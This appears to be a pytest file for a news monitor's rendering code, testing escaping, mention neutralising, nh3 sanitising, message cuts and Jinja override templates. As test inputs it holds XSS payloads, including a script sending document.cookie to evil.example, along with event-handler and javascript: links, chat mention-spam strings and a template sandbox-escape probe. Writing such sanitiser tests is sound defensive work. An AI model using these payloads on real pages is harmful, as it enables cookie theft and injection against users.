"""monitor.render: template fields, escaping per form, mention neutralising, nh3 sanitising, cuts that keep
the link, digests, and override templates with file:line errors."""

from __future__ import annotations

import math
import re
from collections.abc import Mapping
from dataclasses import replace
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest

from monitor.config.schema import ChannelTemplates
from monitor.core.errors import ConfigError
from monitor.render import (
    PARTS,
    Alert,
    Digest,
    Limits,
    OtherSource,
    Templates,
    _digest_context,
    check_templates,
    render,
    render_digest,
    templates_for,
)
from monitor.runtime import configuration

T0 = datetime(2026, 11, 28, 6, 0, tzinfo=UTC)

ALERT = Alert(
    watch="karabakh",
    severity="high",
    topics=["ceasefire", "escalation"],
    place="Nagorno-Karabakh",
    entities=["Nagorno-Karabakh", "Armenia", "Azerbaijan"],
    headline="Ceasefire violated as artillery shells Stepanakert",
    outlet="TASS",
    published_at=datetime(2020, 9, 27, 14, 5, tzinfo=UTC),
    link="https://tass.com/world/1205?utm=x&id=2",
    evidence=['escalation: "shells" (title)', 'ceasefire: "ceasefire" (title)'],
    summary="Martial law and mobilisation were declared in Armenia.",
)


def story(watch: str, severity: str, headline: str, minutes: int, sources: int = 0, place: str = "") -> Alert:
    return replace(
        ALERT,
        watch=watch,
        place=place or watch.title(),
        severity=severity,
        headline=headline,
        link=f"https://news.example/{headline.replace(' ', '-').lower()}",
        published_at=T0 + timedelta(minutes=minutes),
        sources=[OtherSource(f"Outlet {i}", headline, f"https://o{i}.example/x") for i in range(sources)],
    )


DIGEST = Digest(
    channel="ops-email",
    alerts=[
        story("sudan", "medium", "Sudan talks stall", 5),
        story("karabakh", "high", "Karabakh shelling", 10, sources=2, place="Nagorno-Karabakh"),
        story("ukraine", "critical", "Kyiv struck overnight", 1),
        story("karabakh", "critical", "Stepanakert under fire", 2, place="Nagorno-Karabakh"),
        story("karabakh", "critical", "Border post overrun", 30, place="Nagorno-Karabakh"),
        story("sudan", "low", "Aid convoy delayed", 50),
        story("ukraine", "high", "Drone attack on Odesa", 40),
    ],
    period_start=T0,
    period_end=T0 + timedelta(hours=1),
)


# --- alerts (moved from test_notify.py with the rendering) --------------------------------------------


@pytest.mark.parametrize(
    ("topics", "place", "expected"),
    [
        (["ceasefire", "escalation"], "Nagorno-Karabakh", "[ESCALATION] Nagorno-Karabakh: "),
        (["escalation"], "Nagorno-Karabakh", "[ESCALATION] Nagorno-Karabakh: "),
        (["ceasefire"], "Nagorno-Karabakh", "[CEASEFIRE] Nagorno-Karabakh: "),
        (["mobilisation", "ceasefire"], "Sudan", "[CEASEFIRE] Sudan: "),
        (["mobilisation", "drones"], "Sudan", "[MOBILISATION] Sudan: "),
        ([], "Sudan", "[ALERT] Sudan: "),
        (["ceasefire"], "", "[CEASEFIRE] "),
    ],
)
def test_subject_tag_is_the_highest_priority_topic(topics: list[str], place: str, expected: str) -> None:
    """The subject carries one tag (escalation before ceasefire, else the first topic) then place and headline."""
    subject = render(replace(ALERT, topics=topics, place=place)).subject
    assert subject == expected + ALERT.headline


def test_text_and_markdown_carry_every_field() -> None:
    """Both bodies name the topics, watch, severity, entities, headline, outlet, UTC time, link, evidence."""
    message = render(ALERT)
    for body in (message.text, message.markdown):
        for expected in (
            "CEASEFIRE + ESCALATION",
            "karabakh",
            "high",
            "Nagorno-Karabakh, Armenia, Azerbaijan",
            ALERT.headline,
            "TASS",
            "2020-09-27 14:05 UTC",
            "https://tass.com/world/1205?utm=x&id=2",
            '"shells" (title)',
            '"ceasefire" (title)',
            "Martial law and mobilisation",
        ):
            assert expected in body, (expected, body)


def test_markdown_is_markdown_and_text_is_plain() -> None:
    """The Markdown body uses bold labels and an autolink; the text body has no Markdown syntax."""
    message = render(ALERT)
    assert "**Outlet:** TASS" in message.markdown
    assert "<https://tass.com/world/1205?utm=x&id=2>" in message.markdown
    assert "**" not in message.text
    assert "Outlet:    TASS" in message.text


def test_untrusted_text_is_flattened_and_escaped() -> None:
    """HTML in feed text is reduced to plain text, and Markdown/HTML syntax in it cannot take effect."""
    alert = replace(
        ALERT,
        headline="Shelling <b>resumes</b> *now* [click](http://evil.example) a_b",
        summary="<p>Tanks &amp; troops</p><script>alert(1)</script>\n\n  moved   in",
        evidence=['escalation: "<img src=x onerror=alert(1)>" (summary)'],
    )
    message = render(alert)
    assert (
        "Shelling resumes *now* [click]\u200b(http://evil.example) a_b" in message.text
    )  # link syntax broken
    assert "Tanks & troops moved in" in message.text
    assert "alert(1)" not in message.text
    assert r"Shelling resumes \*now\* \[click\](http://evil.example) a\_b" in message.markdown
    assert "Tanks &amp; troops moved in" in message.markdown
    assert "<img" not in message.markdown and "<b>" not in message.markdown


def test_a_link_that_is_not_http_is_not_made_clickable() -> None:
    """Only http(s) links become Markdown autolinks; anything else is shown as escaped text."""
    message = render(replace(ALERT, link="javascript:alert(1)//<x>"))
    assert "<javascript:" not in message.markdown
    assert "javascript:alert(1)//&lt;x&gt;" in message.markdown


@pytest.mark.parametrize(
    ("published_at", "shown"),
    [
        (datetime(2020, 9, 27, 18, 5, tzinfo=timezone(timedelta(hours=4))), "2020-09-27 14:05 UTC"),
        (datetime(2020, 9, 27, 14, 5), "2020-09-27 14:05 UTC"),
        (None, "Published: unknown"),
    ],
)
def test_published_time_is_shown_in_utc(published_at: datetime | None, shown: str) -> None:
    """Publication times are converted to UTC (naive ones taken as UTC); a missing one says 'unknown'."""
    assert shown in render(replace(ALERT, published_at=published_at)).text


def test_long_headline_is_shortened_in_the_subject_only() -> None:
    """A very long headline is cut with an ellipsis in the subject and kept whole in the body."""
    headline = "Shelling " * 60
    message = render(replace(ALERT, headline=headline))
    assert len(message.subject) < 200 and message.subject.endswith("…")
    assert headline.strip() in message.text


def test_an_update_is_marked_says_why_and_lists_the_other_outlets() -> None:
    """An update's subject starts with [UPDATE], the body gives the reasons and every other outlet with its
    link (reprints marked), and the threading ids travel with the message."""
    update = replace(
        ALERT,
        update=True,
        reasons=["severity rose from high to critical"],
        sources=[
            OtherSource("Regional Desk", "Stepanakert shelled", "https://desk.example/1"),
            OtherSource("Metro", "Same wire text", "https://metro.example/9", copy=True),
        ],
        message_id="<story-1.1.x@news-monitor>",
        in_reply_to="<story-1.0.x@news-monitor>",
        references=["<story-1.0.x@news-monitor>"],
    )
    message = render(update)
    assert message.subject.startswith("[UPDATE] [ESCALATION] Nagorno-Karabakh: ")
    assert "Why this update: severity rose from high to critical" in message.text
    assert "Regional Desk: Stepanakert shelled — https://desk.example/1" in message.text
    assert (
        "Metro (reprint): Same wire text" in message.text and "<https://metro.example/9>" in message.markdown
    )
    assert (message.message_id, message.in_reply_to, message.references) == (
        "<story-1.1.x@news-monitor>",
        "<story-1.0.x@news-monitor>",
        ("<story-1.0.x@news-monitor>",),
    )
    assert not render(ALERT).subject.startswith("[UPDATE]")


# --- digests --------------------------------------------------------------------------------------


def test_digest_subject_counts_stories_by_severity() -> None:
    """The digest subject gives the story count and the count per severity, highest severity first."""
    assert render_digest(DIGEST).subject == "[DIGEST] 7 stories: 3 critical, 2 high, 1 medium, 1 low"
    one = replace(DIGEST, alerts=DIGEST.alerts[:1])
    assert render_digest(one).subject == "[DIGEST] 1 story: 1 medium"


def test_digest_orders_watches_by_highest_severity_and_stories_by_severity_then_newest() -> None:
    """Watches come by their highest severity (ties by name); inside a watch, stories by severity then
    newest first — in every form."""
    expected = [
        "Border post overrun",  # karabakh: critical, newest
        "Stepanakert under fire",  # karabakh: critical, older
        "Karabakh shelling",  # karabakh: high
        "Kyiv struck overnight",  # ukraine: critical
        "Drone attack on Odesa",  # ukraine: high
        "Sudan talks stall",  # sudan: medium
        "Aid convoy delayed",  # sudan: low
    ]
    message = render_digest(DIGEST)
    for body in (message.text, message.markdown, message.html):
        positions = [body.index(headline) for headline in expected]
        assert positions == sorted(positions), body
        groups = [body.index(place) for place in ("Nagorno-Karabakh", "Ukraine", "Sudan")]
        assert groups == sorted(groups)


def test_a_severity_the_rules_do_not_know_ranks_below_low_in_a_digest() -> None:
    """A story whose severity is not one of the rules' levels is ranked lowest (after low), in the subject
    counts and in the story order."""
    odd = [story("zeta", "urgent", "Odd severity story", 50), story("alpha", "low", "Low story", 1)]
    message = render_digest(replace(DIGEST, alerts=odd))
    assert message.subject == "[DIGEST] 2 stories: 1 low, 1 urgent"
    assert message.text.index("Low story") < message.text.index("Odd severity story")


def test_digest_story_shows_severity_topics_headline_outlet_link_and_source_count() -> None:
    """Each digest story line carries its severity, topics, headline, outlet, link and source count."""
    message = render_digest(DIGEST)
    text = message.text
    line = next(i for i, line in enumerate(text.splitlines()) if "Karabakh shelling" in line)
    block = "\n".join(text.splitlines()[line : line + 3])
    for expected in (
        "[HIGH]",
        "CEASEFIRE + ESCALATION",
        "TASS",
        "3 sources",
        "https://news.example/karabakh-shelling",
    ):
        assert expected in block, block
    assert "1 source" in text and "2026-11-28 06:00 UTC – 2026-11-28 07:00 UTC" in text
    assert "<https://news.example/karabakh-shelling>" in message.markdown
    assert '<a href="https://news.example/karabakh-shelling">Karabakh shelling</a>' in message.html


def test_digest_marks_only_updates_as_updates() -> None:
    """Only a story whose alert is an update is marked "update" in each digest form (a story entry is not
    a dict, whose built-in `update` method would make every story look like one)."""
    alerts = [
        story("karabakh", "high", "First report", 1),
        replace(story("sudan", "low", "Later news", 2), update=True),
    ]
    message = render_digest(replace(DIGEST, alerts=alerts))
    for body in (message.text, message.markdown, message.html):
        first = next(line for line in body.splitlines() if "First report" in line)
        assert "update" not in first.lower(), first
        later = body[body.index("Later news") :].split("\n\n")[0]
        assert "update" in later, body


def test_digest_cut_drops_lowest_ranked_stories_and_keeps_links_whole() -> None:
    """A digest over the channel limit leaves out the lowest-ranked stories, says how many, and every link
    it shows is whole."""
    limit = Limits(body=700, title=250)
    message = render_digest(DIGEST, limit=limit)
    assert len(message.text) <= 700 and len(message.markdown) <= 700
    assert "Border post overrun" in message.text and "Aid convoy delayed" not in message.text
    omitted = re.search(r"and (\d+) more stor", message.text)
    assert omitted is not None
    shown = sum(1 for alert in DIGEST.alerts if alert.headline in message.text)
    assert shown + int(omitted.group(1)) == 7
    for url in re.findall(r"https://news\.example/\S+", message.text):
        assert url.rstrip(">") in {alert.link for alert in DIGEST.alerts}


class CountingTemplates(Templates):
    """The built-in templates, counting renders and refusing more than `cap` (so a slow search fails fast)."""

    def __init__(self, cap: int) -> None:
        super().__init__(None)
        self.cap, self.calls = cap, 0

    def run(self, part: str, context: Mapping[str, Any]) -> tuple[str, str | None]:
        self.calls += 1
        assert self.calls <= self.cap, f"more than {self.cap} template renders"
        return super().run(part, context)


def test_a_huge_digest_is_fitted_in_logarithmically_many_renders_and_keeps_the_largest_prefix() -> None:
    """A 2,000-story digest at a 1,000-character limit takes O(log n) template renders per form (not one
    per story) and still shows the most stories that fit: one more would not fit."""
    many = [
        story(f"w{i % 4}", ("low", "medium", "high")[i % 3], f"Headline {i} about shelling", i)
        for i in range(2000)
    ]
    digest = replace(DIGEST, alerts=many)
    cap = 1 + 3 * (2 + 2 * math.ceil(math.log2(len(many) + 1)))  # subject + 3 forms of a galloping search
    templates = CountingTemplates(cap)
    limit = Limits(body=1000, title=250)
    message = render_digest(digest, templates=templates, limit=limit)
    for form in ("text", "markdown", "html"):
        body = getattr(message, form)
        assert len(body) <= 1000, form
        shown = len(re.findall(r"https://news\.example/headline-\d+", body))
        assert 0 < shown < len(many), form
        assert re.search(rf"and {len(many) - shown} more stories", body), form
        one_more, _ = Templates(None).run(f"digest_{form}", _digest_context(digest, form, shown + 1))
        assert len(one_more) > 1000, form


# --- chat escaping ---------------------------------------------------------------------------------

MENTIONS = [
    "@everyone",
    "@here",
    "@channel",
    "@room",
    "<@123456789>",
    "<@!123456789>",
    "<@&987654321>",
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<#C024BE91L>",
    "@alice:matrix.org",
    "@durov",
]


@pytest.mark.parametrize("mention", MENTIONS)
def test_feed_text_cannot_mention_anyone_in_text_markdown_or_subject(mention: str) -> None:
    """A mention in a headline, summary or source title reaches no form intact (a zero-width space breaks
    it), while the text still reads the same once that invisible character is removed."""
    alert = replace(
        ALERT,
        headline=f"Shelling reported {mention} now",
        summary=f"Residents told {mention} to shelter.",
        sources=[OtherSource(f"Desk {mention}", f"Copy {mention}", "https://desk.example/1")],
    )
    message = render(alert)
    for form in (message.subject, message.text, message.markdown):
        assert mention not in form, form
    if mention.startswith("<!"):  # feed HTML reduction already drops these as markup declarations
        return
    assert f"Shelling reported {mention} now" in message.text.replace("\u200b", "")
    assert f"Residents told {mention} to shelter." in message.text.replace("\u200b", "")
    assert f"Shelling reported {mention} now" in message.subject.replace("\u200b", "")


@pytest.mark.parametrize(
    "markup",
    ["[click](https://evil.example)", "[click][1]", "<https://evil.example|click here>"],
)
def test_feed_text_cannot_add_a_link_in_the_text_form(markup: str) -> None:
    """Link syntax a chat service would render (Markdown links, Slack <url|text>) is broken in the text form
    and escaped in the Markdown form."""
    message = render(replace(ALERT, headline=f"Read more {markup}"))
    assert markup not in message.text and markup not in message.subject
    assert markup not in message.markdown
    if markup.startswith("<"):  # feed HTML reduction already drops <...> as a tag
        assert "evil.example" not in message.text and "evil.example" not in message.markdown
    else:
        assert markup in message.text.replace("\u200b", "")  # reads the same
        assert "\\[click\\]" in message.markdown


def test_a_link_keeps_working_but_an_at_sign_in_its_path_cannot_mention() -> None:
    """The alert link stays one clickable URL; an '@' in its path is percent-encoded in text and Markdown."""
    message = render(replace(ALERT, link="https://news.example/@everyone/story?id=1"))
    assert "https://news.example/%40everyone/story?id=1" in message.text
    assert "<https://news.example/%40everyone/story?id=1>" in message.markdown
    assert "@everyone" not in message.text and "@everyone" not in message.markdown


# --- HTML form ------------------------------------------------------------------------------------

HOSTILE_SUMMARY = (
    "<p>Troops <b>advanced</b> near <a href='https://ok.example/map' onclick='steal()'>the river</a>.</p>"
    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    "<style>body{display:none}</style>"
    "<img src=x onerror=alert(1)>"
    "<a href='javascript:alert(2)'>click me</a>"
    "<iframe src='https://evil.example/frame'></iframe>"
    "<svg onload=alert(3)></svg>"
)


def test_html_form_sanitises_the_feed_summary_with_nh3() -> None:
    """The HTML body keeps the summary's safe inline markup (bold, http link) and loses scripts, styles,
    event handlers, images, frames and javascript: links."""
    html = render(replace(ALERT, summary=HOSTILE_SUMMARY)).html
    assert "<b>advanced</b>" in html
    assert '<a href="https://ok.example/map" rel="noopener noreferrer nofollow">the river</a>' in html
    for bad in ("<script", "document.cookie", "<style", "display:none", "onerror", "onclick", "onload",
                "javascript:", "<img", "<iframe", "<svg", "evil.example"):  # fmt: skip
        assert bad not in html, bad
    assert "click me" in html  # the text of a removed link stays, without the link


def test_html_form_escapes_every_field() -> None:
    """Feed text in the headline, outlet, evidence and source titles is HTML-escaped in the HTML body."""
    alert = replace(
        ALERT,
        headline="Shelling <script>alert(1)</script> & more",
        outlet="<b>Wire</b>",
        evidence=['escalation: "<img src=x onerror=alert(1)>" (summary)'],
        sources=[OtherSource("Desk", '<i>x</i> " onmouseover="y', 'https://desk.example/"onmouseover=x')],
    )
    html = render(alert).html
    assert "<script" not in html and "onerror" not in html and "<i>" not in html
    assert ">Shelling &amp; more</a>" in html  # script content dropped, & escaped
    assert re.search(r"<[^>]*onmouseover", html) is None  # a quote cannot open an attribute
    assert 'href="https://desk.example/' not in html  # a link with a quote in it is not a link
    assert "<td>Wire</td>" in html  # tags reduced to text first


def test_a_non_http_link_is_never_a_link_in_html() -> None:
    """A javascript: alert link becomes neither an href nor a Markdown link; it is shown as text."""
    message = render(replace(ALERT, link="javascript:alert(1)"))
    assert 'href="javascript' not in message.html
    assert "<javascript:" not in message.markdown


# --- cuts -----------------------------------------------------------------------------------------

LONG = replace(
    ALERT,
    summary="Residents described the night as the worst since the war began. " * 12,
    evidence=[f'escalation: "shelling {i}" (summary)' for i in range(12)],
    sources=[
        OtherSource(f"Outlet {i}", f"Report number {i} on the shelling", f"https://o{i}.example/a")
        for i in range(30)
    ],
)


def test_a_long_alert_fits_the_limit_by_dropping_the_other_sources_first() -> None:
    """Over the limit, the other-sources list goes first (counted), while summary and evidence stay."""
    full = render(LONG)
    assert len(full.text) > 2000
    message = render(LONG, limit=Limits(body=1500))
    assert len(message.text) <= 1500 and len(message.markdown) <= 1500
    assert "Outlet 0" not in message.text and "Also reported by 30 other outlet(s)." in message.text
    assert "worst since the war began" in message.text and '"shelling 11"' in message.text
    assert LONG.link in message.text


def test_then_the_summary_then_the_evidence_are_dropped() -> None:
    """With less room the summary goes next, then evidence lines, and the headline and link stay whole."""
    message = render(LONG, limit=Limits(body=800))
    assert len(message.text) <= 800
    assert "Outlet 0" not in message.text and "worst since the war began" not in message.text
    assert ALERT.headline in message.text and LONG.link in message.text

    smaller = render(LONG, limit=Limits(body=520))
    assert len(smaller.text) <= 520
    assert '"shelling 11"' not in smaller.text and "more (message size limit)" in smaller.text
    assert ALERT.headline in smaller.text and LONG.link in smaller.text


@pytest.mark.parametrize("limit", range(40, 700, 7))
def test_no_cut_ever_falls_inside_the_link(limit: int) -> None:
    """At every limit the bodies fit and the link is never cut: whole, or (only when it cannot fit with a
    line break and a word of headline) absent."""
    message = render(LONG, limit=Limits(body=limit))
    for body, link in ((message.text, LONG.link), (message.markdown, f"<{LONG.link}>")):
        assert len(body) <= limit
        assert link in body or "https://tass" not in body, body
        if limit >= len(link) + 3:
            assert link in body, body


def test_a_service_without_a_title_gets_room_for_the_subject_in_its_body() -> None:
    """When the service puts the subject into the body (no title field), subject plus body fit the limit."""
    limit = Limits(body=900, title=None, title_in_body=True)
    message = render(LONG, limit=limit)
    assert len(message.subject) + 2 + len(message.text) <= 900
    assert len(message.subject) + 3 + len(message.markdown) <= 900  # "# subject\n" for Markdown


def test_an_sms_sized_service_gets_a_short_subject_and_the_link_whole() -> None:
    """With 160 characters for subject and body together, the subject takes a third and the headline link
    still arrives whole."""
    alert = replace(ALERT, link="https://tass.com/w/1205")
    message = render(alert, limit=Limits(body=160, title_in_body=True))
    assert len(message.subject) <= 53 and message.subject.endswith("…")
    assert len(message.subject) + 2 + len(message.text) <= 160
    assert "https://tass.com/w/1205" in message.text


def test_a_short_title_limit_shortens_the_subject() -> None:
    """A service with a short title limit gets a subject cut with an ellipsis to that length."""
    subject = render(ALERT, limit=Limits(title=40)).subject
    assert len(subject) <= 40 and subject.endswith("…") and subject.startswith("[ESCALATION] Nagorno")


# --- override templates ---------------------------------------------------------------------------


def write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def test_an_override_replaces_only_its_part_and_is_escaped_like_ours(tmp_path: Path) -> None:
    """A channel's text and html overrides are used; the other parts stay built-in; feed text in them is
    neutralised (text) and escaped (HTML) without the template doing anything."""
    text = write(tmp_path / "t.j2", "ALERT {{ severity|upper }}: {{ headline }} <{{ link }}>\n")
    html = write(tmp_path / "h.j2", "<p>{{ headline }}</p><div>{{ summary }}</div>\n")
    templates = templates_for({"text": text, "html": html})
    alert = replace(ALERT, headline="@everyone <script>x</script>Shelling", summary=HOSTILE_SUMMARY)
    message = render(alert, templates=templates)
    assert message.text == f"ALERT HIGH: @\u200beveryone Shelling <{ALERT.link}>\n"
    assert message.html.startswith("<p>@everyone Shelling</p><div>Troops <b>advanced</b>")
    assert "<script" not in message.html and "onerror" not in message.html
    assert message.subject == render(alert).subject and message.markdown == render(alert).markdown
    assert message.problem is None


def test_digest_override(tmp_path: Path) -> None:
    """A digest_text override sees the digest fields (groups, stories, counts)."""
    text = write(
        tmp_path / "d.j2",
        "{% for g in groups %}{{ g.watch }}:{% for s in g.stories %} {{ s.severity }}/{{ s.source_count }}"
        "{% endfor %};{% endfor %} {{ counts_line }}\n",
    )
    message = render_digest(DIGEST, templates=templates_for({"digest_text": text}))
    assert message.text == (
        "karabakh: critical/1 critical/1 high/3;ukraine: critical/1 high/1;sudan: medium/1 low/1;"
        " 3 critical, 2 high, 1 medium, 1 low\n"
    )


def test_override_problems_name_the_template_file_and_line(tmp_path: Path) -> None:
    """Missing files, syntax errors, misspelt fields (with a suggestion) and sandbox violations are each
    reported with the template file and line."""
    syntax = write(tmp_path / "syntax.j2", "line one\n{% for s in sources %}\n{{ s.outlet }\n")
    typo = write(tmp_path / "typo.j2", "{{ headline }}\n{% if update %}\n{{ hedline }}\n{% endif %}\n")
    unsafe = write(tmp_path / "unsafe.j2", "{{ headline }}\n{{ headline.__class__.__mro__ }}\n")
    problems = {
        p.part: str(p)
        for p in check_templates(
            {"subject": tmp_path / "missing.j2", "text": syntax, "markdown": typo, "html": unsafe}
        )
    }
    assert problems["subject"] == f"{tmp_path / 'missing.j2'}: no such template file"
    assert problems["text"].startswith(f"{syntax}:3: Jinja syntax error")
    assert problems["markdown"].startswith(f"{typo}:3: 'hedline' is undefined; did you mean 'headline'?")
    assert problems["html"].startswith(f"{unsafe}:2: SecurityError")
    assert check_templates({"text": write(tmp_path / "ok.j2", "{{ headline }}\n")}) == []


def test_a_template_broken_after_the_check_falls_back_to_the_built_in_one(tmp_path: Path) -> None:
    """A template edited into an error after check-config does not stop delivery: the built-in template is
    used and the message says why."""
    path = write(tmp_path / "t.j2", "{{ headline }}\n")
    assert render(ALERT, templates=templates_for({"text": path})).text == ALERT.headline + "\n"
    write(path, "{{ headline }} {{ nope }}\n")
    message = render(ALERT, templates=templates_for({"text": path}))
    assert message.text == render(ALERT).text
    assert message.problem and "'nope' is undefined" in message.problem and str(path) in message.problem
    write(path, "{% if %}\n")
    message = render(ALERT, templates=templates_for({"text": path}))
    assert message.text == render(ALERT).text and message.problem and f"{path}:1" in message.problem


def test_config_errors_name_the_config_line_and_the_template_line(tmp_path: Path) -> None:
    """check-config reports a bad override at the config file's line of the key and the template's line,
    with how to fix it; relative paths are taken from the config file's folder."""
    (tmp_path / "tpl").mkdir()
    write(tmp_path / "tpl" / "subject.j2", "[{{ tag }}] {{ headline }}\n")
    write(tmp_path / "tpl" / "text.j2", "{{ headline }}\n\n{{ evidense|join(', ') }}\n")
    config = write(
        tmp_path / "monitor.yaml",
        "channels:\n"
        "  ops-email:\n"
        "    url: json://127.0.0.1:9/hook\n"
        "    templates:\n"
        "      subject: tpl/subject.j2\n"
        "      text: tpl/text.j2\n"
        "      html: tpl/nowhere.j2\n"
        "rules: []\n",
    )
    with pytest.raises(ConfigError) as info:
        configuration.load(config)
    problems = info.value.problems
    text_problem = next(p for p in problems if ".templates.text:" in p)
    assert text_problem.startswith(
        f"{config}:6: channels.ops-email.templates.text: {tmp_path / 'tpl' / 'text.j2'}:3:"
    )
    assert (
        "'evidense' is undefined; did you mean 'evidence'?" in text_problem
        and "fix the template" in text_problem
    )
    html_problem = next(p for p in problems if ".templates.html:" in p)
    assert html_problem.startswith(
        f"{config}:7: channels.ops-email.templates.html: {tmp_path / 'tpl' / 'nowhere.j2'}:"
    )
    assert "no such template file" in html_problem and "relative to the config file" in html_problem
    assert not any(".templates.subject" in p for p in problems)
    assert len(problems) == 2, problems

    write(config, config.read_text(encoding="utf-8").replace("      text:", "      digest_txt:"))
    with pytest.raises(ConfigError) as info:
        configuration.load(config)
    expected = (
        f"{config}:6: channels.ops-email.templates.digest_txt: unknown key; did you mean 'digest_text'?"
    )
    assert expected in info.value.problems


def test_a_valid_override_loads_and_its_path_is_resolved_from_the_config_folder(tmp_path: Path) -> None:
    """A config whose override is fine loads, and the channel's paths point into the config's folder."""
    (tmp_path / "tpl").mkdir()
    write(tmp_path / "tpl" / "subject.j2", "[{{ tag }}] {{ headline }}\n")
    config = configuration.load(
        write(
            tmp_path / "monitor.yaml",
            "channels:\n  ops:\n    url: json://127.0.0.1:9/hook\n    templates: {subject: tpl/subject.j2}\nrules: []\n",
        )
    )
    templates = config.settings.channels["ops"].templates
    assert templates is not None
    assert templates.paths(config.path.parent) == {"subject": tmp_path / "tpl" / "subject.j2"}


def test_the_config_keys_are_the_template_parts() -> None:
    """Every template part can be overridden from the config, and nothing else."""
    assert set(ChannelTemplates.model_fields) == set(PARTS)
